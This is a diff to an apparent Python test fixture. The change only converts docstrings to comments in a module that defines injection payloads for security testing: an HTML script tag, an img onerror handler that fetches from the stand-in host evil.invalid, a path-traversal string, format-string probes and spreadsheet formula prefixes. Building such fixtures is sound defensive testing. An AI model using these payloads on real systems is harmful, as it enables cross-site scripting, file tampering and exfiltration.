@@ -9,11 +9,12 @@ from __future__ import annotations
 from collections.abc import Iterator
 from itertools import cycle
 
+# No such host exists (RFC 6761).
 EVIL = "evil.invalid"
-"""No such host exists (RFC 6761)."""
+# The name of a file that nothing may make.
 TRACE = "readiness-injected"
-"""The name of a file that nothing may make."""
 
+# Each by its kind.
 INJECTIONS = {
     "html script": "<script>window.hit=1;alert(1)</script>",
     "html event": f"<img src=x onerror=\"window.hit=1;fetch('http://{EVIL}/i')\">",
@@ -48,9 +49,8 @@ INJECTIONS = {
     "climbing": f"../../../../../../tmp/{TRACE}",
     "format": "%s %n %(x)s {0} {x!r} \\n",
 }
-"""Each by its kind."""
+# What a spreadsheet takes for the beginning of a formula.
 RUNNING = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
-"""What a spreadsheet takes for the beginning of a formula."""
 
 
 class Planter:
